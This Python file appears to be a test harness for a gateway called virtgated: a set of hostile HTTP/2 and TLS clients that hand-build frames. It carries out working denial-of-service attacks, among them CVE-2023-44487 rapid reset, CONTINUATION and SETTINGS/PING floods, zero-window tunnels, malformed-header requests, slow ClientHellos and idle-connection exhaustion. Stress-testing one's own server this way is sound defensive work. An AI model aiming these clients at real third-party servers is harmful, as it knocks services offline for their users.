#!/usr/bin/python3
"""Hostile HTTP/2 and TLS clients for virtgated (issue 13): one attack per process.

Run with Debian's /usr/bin/python3 (python3-h2 brings hyperframe; scripts/setup.sh installs
it). Frames are built by hand with hyperframe (and a literal-only HPACK encoder, both in
rawh2.py next to this file) so that every attack can send what a well-behaved HTTP/2 stack refuses to: resets right
after HEADERS, endless CONTINUATION, uppercase or duplicated pseudo-headers, windows of 0.

    hostile.py ATTACK --host 127.0.0.1 --port N [--source 127.0.0.2] --ca CA.pem
               [--cert USER.pem --key USER.key --key-password-file FILE] [--duration S]

Attacks: rapid-reset, continuation, settings-flood, ping-flood, zero-window, streams-10k,
bad-headers, trickle-hello, pending, tunnel-loop, negotiate. Each prints `READY` once the
attack is under way and, when it ends (after --duration seconds), one line
`RESULT {json}` with what it did and what the gateway answered. Connections the gateway
closes are opened again, so the pressure lasts for the whole duration.
"""

import argparse
import base64
import json
import os
import resource
import select
import ssl
import struct
import sys
import time

from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

sys.dont_write_bytecode = True  # no __pycache__ in the source tree for rawh2
from rawh2 import (CANCEL, FRAME, STATS, headers_frames, hpack_block, open_conn, raw_frame,
                   request, table_size_update, tcp_connect, tls_context)


def ready():
    print("READY", flush=True)


def run_for(a):
    return time.monotonic() + a.duration


# ---------------------------------------------------------------------------- attacks


def rapid_reset(a):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, in batches, forever."""
    end, announced = run_for(a), False
    while time.monotonic() < end:
        c = open_conn(a)
        if not c:
            time.sleep(0.05)
            continue
        sid = 1
        while not c.closed and time.monotonic() < end:
            batch = bytearray()
            for _ in range(a.batch):
                batch += headers_frames(sid, hpack_block(request(a, "/v1/whoami")))
                batch += RstStreamFrame(sid, error_code=CANCEL).serialize()
                sid += 2
            STATS.add("streams_reset", a.batch)
            c.queue(batch)
            c.pump(until=end)
            if not announced:
                ready()
                announced = True
        c.close()


def continuation(a):
    """HEADERS without END_HEADERS, then CONTINUATION frames of new literal headers that
    never end the block."""
    end, announced, n = run_for(a), False, 0
    while time.monotonic() < end:
        c = open_conn(a)
        if not c:
            time.sleep(0.05)
            continue
        c.queue(HeadersFrame(1, data=hpack_block(request(a, "/v1/whoami"))).serialize())
        while not c.closed and time.monotonic() < end:
            chunk = bytearray()
            while len(chunk) < FRAME - 64:
                chunk += hpack_block([(f"x-junk-{n}", "a" * 40)])
                n += 1
            c.queue(ContinuationFrame(1, data=bytes(chunk)).serialize())
            STATS.add("continuation_frames")
            c.pump(until=end)
            if not announced:
                ready()
                announced = True
        c.close()


def flood(a, make, what):
    """Two connections in turn: one reads what the gateway answers, one never reads (its
    ACKs pile up on the gateway's side unless it stops reading us)."""
    end, announced = run_for(a), False
    conns = []
    while time.monotonic() < end:
        conns = [c for c in conns if not c.closed]
        for read in (True, False):
            if sum(1 for c in conns if c.read == read) == 0:
                c = open_conn(a, read=read)
                if c:
                    conns.append(c)
        for c in conns:
            c.queue(make())
            STATS.add(what, a.batch)
            c.pump(until=min(end, time.monotonic() + 0.2))
        if conns and not announced:
            ready()
            announced = True
    for c in conns:
        c.close()


def settings_flood(a):
    # every SETTINGS must be ACKed; INITIAL_WINDOW_SIZE changes touch every stream
    payload = b"".join(struct.pack(">HI", SettingsFrame.INITIAL_WINDOW_SIZE, 65535 + (i % 2))
                       + struct.pack(">HI", SettingsFrame.HEADER_TABLE_SIZE, 4096 - (i % 2))
                       for i in range(64))
    frames = raw_frame(0x4, 0, 0, payload) * a.batch
    flood(a, lambda: frames, "settings_frames")


def ping_flood(a):
    frames = b"".join(PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize()
                      for i in range(a.batch))
    flood(a, lambda: frames, "pings")


def zero_window(a):
    """Tunnels whose consoles push data to a client that granted a window of 0 and never
    reads: VNC tunnels that ask for full framebuffer updates, blind (no reply is read)."""
    end = run_for(a)
    conns = []
    vnc_hello = b"RFB 003.008\n" + b"\x01" + b"\x01"  # version, security None, shared
    fb_request = struct.pack(">BBHHHH", 3, 0, 0, 0, 0xFFFF, 0xFFFF)
    answered = time.monotonic() + a.duration / 2
    for _ in range(a.connections):
        c = open_conn(a, local={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, window_updates=False)
        if not c:
            continue
        conns.append(c)
        # in waves: QEMU's VNC socket has a short listen backlog
        for wave in range(0, a.streams, a.batch):
            for i in range(wave, min(a.streams, wave + a.batch)):
                c.queue(headers_frames(1 + 2 * i, hpack_block(request(a, a.path, "CONNECT")),
                                       end_stream=False))
            # read the answers (no DATA can come with a window of 0), later never again
            want = min(a.streams, wave + a.batch)
            c.pump(wait=a.duration, until=answered,
                   done=lambda: len(c.responses) + sum(c.resets.values()) >= want)
    for c in conns:
        c.read = False
        STATS.add("tunnels_opened", c.statuses.get(200, 0))
        STATS.add("tunnels_refused", sum(v for k, v in c.statuses.items() if k != 200))
        for sid in c.responses:
            c.queue(DataFrame(sid, data=vnc_hello + fb_request).serialize())
    ready()
    while time.monotonic() < end:
        for c in conns:
            for sid, status in c.responses.items():
                if status == 200:
                    c.queue(DataFrame(sid, data=fb_request).serialize())
            c.pump(until=min(end, time.monotonic() + 0.5))
        time.sleep(0.2)
    STATS.add("connections_still_open", sum(1 for c in conns if not c.closed))
    for c in conns:
        c.close()


def streams_10k(a):
    """10,000 requests sent at once on one connection, then read what comes back."""
    end, announced = run_for(a), False
    while time.monotonic() < end:
        c = open_conn(a)
        if not c:
            time.sleep(0.05)
            continue
        burst = b"".join(headers_frames(1 + 2 * i, hpack_block(request(a, "/v1/whoami")))
                         for i in range(a.streams))
        c.queue(burst)
        STATS.add("streams_sent", a.streams)
        if not announced:
            ready()
            announced = True
        c.pump(wait=2.0, until=end)
        STATS.add("answered_200", c.statuses.get(200, 0))
        c.close()


def bad_header_cases(a):
    base = request(a, "/v1/whoami")
    big = "x" * (1 << 20)
    return {
        "header_1mib": hpack_block(base + [("x-big", big)]),
        "uppercase_name": hpack_block(base + [("X-Upper", "1")]),
        "unknown_pseudo": hpack_block(base + [(":bogus", "1")]),
        "duplicate_path": hpack_block(base + [(":path", "/v1/domains")]),
        "pseudo_after_regular": hpack_block(base[:3] + [("x-a", "1"), base[3]]),
        "missing_path": hpack_block(base[:3]),
        "connection_header": hpack_block(base + [("connection", "keep-alive")]),
        "transfer_encoding": hpack_block(base + [("transfer-encoding", "chunked")]),
        "te_gzip": hpack_block(base + [("te", "gzip")]),
        "status_in_request": hpack_block([(":status", "200")] + base),
        "table_size_huge": table_size_update(0xFFFFFFF) + hpack_block(base),
        "table_size_updates_1000": table_size_update(0) * 1000 + hpack_block(base),
        "nul_in_value": hpack_block(base + [("x-nul", "a\x00b")]),
        "empty_name": hpack_block(base + [("", "x")]),
    }


def bad_headers(a):
    """Each malformed request on a connection of its own, in turn, for the duration;
    the RESULT says how the gateway answered each case (status, reset, GOAWAY)."""
    end, announced = run_for(a), False
    cases = bad_header_cases(a)
    outcome = {}
    while time.monotonic() < end:
        for name, block in cases.items():
            if time.monotonic() >= end:
                break
            c = open_conn(a)
            if not c:
                time.sleep(0.05)
                continue
            c.queue(headers_frames(1, block))
            if not announced:
                ready()
                announced = True
            c.pump(wait=0.3, until=end)
            got = (f"status {c.responses[1]}" if 1 in c.responses else
                   f"rst {dict(c.resets)}" if c.resets else
                   f"goaway {c.goaway}" if c.goaway is not None else
                   "closed" if c.closed else "no answer")
            outcome[name] = got
            STATS.add("requests")
            c.close()
    STATS.c["outcome"] = outcome


def client_hello(a):
    """The bytes of a real ClientHello (ALPN h2) from Python's own TLS stack."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context(a, cert=False).wrap_bio(incoming, outgoing, server_hostname=a.host)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def trickle_hello(a):
    """Connections that send a real ClientHello one byte per second (raw TCP)."""
    end = run_for(a)
    hello = client_hello(a)
    socks = {}
    for _ in range(a.connections):
        try:
            socks[tcp_connect(a)] = [0, time.monotonic()]
            STATS.add("connections")
        except OSError:
            STATS.add("connect_failed")
    ready()
    lifetimes = []
    while time.monotonic() < end and socks:
        for s, st in list(socks.items()):
            try:
                s.send(hello[st[0]:st[0] + 1])
                st[0] += 1
                STATS.add("bytes_sent")
                s.setblocking(False)
                if s.recv(1) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                lifetimes.append(round(time.monotonic() - st[1], 1))
                s.close()
                del socks[s]
                continue
            s.setblocking(True)
        time.sleep(a.interval)
    STATS.c["closed_by_gateway_after_s"] = sorted(lifetimes)
    STATS.add("still_open", len(socks))
    STATS.add("hello_bytes", len(hello))
    for s in socks:
        s.close()


def pending(a):
    """Connections that never send a byte, `--connections` of them, from `--spread`
    source addresses (127.0.0.2 …) or `--source`. Closed ones are counted (and reopened
    with --reopen)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end = run_for(a)
    sources = [f"127.0.0.{2 + i}" for i in range(a.spread)] if a.spread else [a.source]
    socks = {}

    def one(i):
        try:
            s = tcp_connect(a, sources[i % len(sources)], timeout=5)
            s.setblocking(False)
            socks[s.fileno()] = (s, i)
            STATS.add("connects")
            return s.fileno()
        except OSError:
            STATS.add("connect_failed")
            return None

    for i in range(a.connections):
        one(i)
    ready()
    poller = select.poll()
    for fd in socks:
        poller.register(fd, select.POLLIN)
    while time.monotonic() < end:
        for fd, _ in poller.poll(200):
            s, i = socks.pop(fd, (None, 0))
            if s is None:
                continue
            poller.unregister(fd)
            s.close()
            STATS.add("closed_by_gateway")
            if a.reopen and time.monotonic() < end:
                nfd = one(i)
                if nfd is not None:
                    poller.register(nfd, select.POLLIN)
    STATS.add("still_open", len(socks))
    for s, _ in socks.values():
        s.close()


def tunnel_loop(a):
    """Open and close tunnels as fast as possible, `--streams` at a time per connection."""
    end, announced = run_for(a), False
    while time.monotonic() < end:
        c = open_conn(a)
        if not c:
            time.sleep(0.05)
            continue
        sid = 1
        while not c.closed and time.monotonic() < end:
            sids = []
            for _ in range(a.streams):
                c.queue(headers_frames(sid, hpack_block(request(a, a.path, "CONNECT")), end_stream=False))
                sids.append(sid)
                sid += 2
            c.pump(wait=a.duration, until=end, done=lambda: all(
                s in c.responses or s in c.reset_ids for s in sids))
            for s in sids:
                if c.responses.get(s) == 200:
                    c.queue(RstStreamFrame(s, error_code=CANCEL).serialize())
                    STATS.add("tunnels")
            c.pump(until=end)
            if not announced:
                ready()
                announced = True
        c.close()


def negotiate(a):
    """`Authorization: Negotiate` with random tokens and with 1 MiB of base64, on TLS
    connections without a client certificate."""
    end, announced = run_for(a), False
    big = base64.b64encode(os.urandom(3 << 18)).decode()
    while time.monotonic() < end:
        c = open_conn(a, cert=False)
        if not c:
            time.sleep(0.05)
            continue
        sid = 1
        while not c.closed and time.monotonic() < end and c.goaway is None:
            token = big if sid % 8 == 7 else base64.b64encode(os.urandom(64 + sid % 900)).decode()
            c.queue(headers_frames(sid, hpack_block(request(a, "/v1/whoami") +
                                              [("authorization", f"Negotiate {token}")])))
            STATS.add("tokens_big" if sid % 8 == 7 else "tokens_random")
            sid += 2
            c.pump(wait=0.01, until=end)
            if not announced:
                ready()
                announced = True
        c.close()


ATTACKS = {
    "rapid-reset": rapid_reset, "continuation": continuation,
    "settings-flood": settings_flood, "ping-flood": ping_flood, "zero-window": zero_window,
    "streams-10k": streams_10k, "bad-headers": bad_headers, "trickle-hello": trickle_hello,
    "pending": pending, "tunnel-loop": tunnel_loop, "negotiate": negotiate,
}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--source", help="local address to bind (e.g. 127.0.0.2)")
    p.add_argument("--ca", required=True, help="CA that signed the gateway's certificate")
    p.add_argument("--cert", help="client certificate (authenticated attacks)")
    p.add_argument("--key", help="its private key")
    p.add_argument("--key-password-file", help="first line: the key's passphrase")
    p.add_argument("--duration", type=float, default=5.0)
    p.add_argument("--batch", type=int, default=200, help="frames per write (floods)")
    p.add_argument("--streams", type=int, default=10000, help="streams per connection")
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--path", default="/v1/domains/web1/vnc", help="tunnel path")
    p.add_argument("--spread", type=int, default=0, help="pending: source addresses")
    p.add_argument("--reopen", action="store_true", help="pending: reopen closed ones")
    p.add_argument("--interval", type=float, default=1.0, help="trickle: s between bytes")
    a = p.parse_args()
    started = time.monotonic()
    ATTACKS[a.attack](a)
    result = dict(STATS.c)
    result["attack"] = a.attack
    result["seconds"] = round(time.monotonic() - started, 1)
    print("RESULT " + json.dumps(result, sort_keys=True), flush=True)


if __name__ == "__main__":
    sys.exit(main())
